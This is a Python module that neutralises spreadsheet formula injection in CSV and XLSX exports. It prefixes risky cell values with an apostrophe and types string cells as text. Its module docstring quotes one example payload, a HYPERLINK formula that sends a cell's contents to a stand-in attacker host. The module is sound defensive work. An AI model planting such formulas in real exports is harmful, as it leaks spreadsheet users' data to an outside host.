"""Cells for CSV and XLSX exports that a spreadsheet program never evaluates.

A stored text such as ``=HYPERLINK("http://evil.example/?d="&B2)`` must arrive as text. Every
export writes its cells through ``text_cell`` (CSV) or ``append_row`` (XLSX): strings are
cleaned of characters XML cannot hold, and one that a spreadsheet would read as a formula
(starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return) gets an apostrophe in front,
as OWASP advises for CSV injection. Numbers stay numbers.
"""

from collections.abc import Iterable
from decimal import Decimal

from kompetencedialog.lib.text import clean_text

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: str) -> str:
    """``value`` as a cell's text: cleaned, and with an apostrophe if it could start a formula."""
    value = clean_text(value, multiline=True)
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def cell_value(value: object) -> object:
    """A number as a number (a whole ``Decimal`` as ``int``), anything else as text, ``None`` as
    an empty cell."""
    if value is None or isinstance(value, bool):
        return value
    if isinstance(value, Decimal):
        return int(value) if value == value.to_integral_value() else float(value)
    if isinstance(value, int | float):
        return value
    return text_cell(str(value))


def append_row(sheet, values: Iterable[object]) -> None:
    """One row at the bottom of an openpyxl ``sheet``; every string cell typed as text, so that
    nothing in it is ever a formula."""
    sheet.append([cell_value(value) for value in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def sheet_title(title: str) -> str:
    """A text fit for a sheet's tab: no XML-illegal characters, and none Excel forbids there."""
    return "".join(c for c in clean_text(title, multiline=False) if c not in "[]:*?/\\")
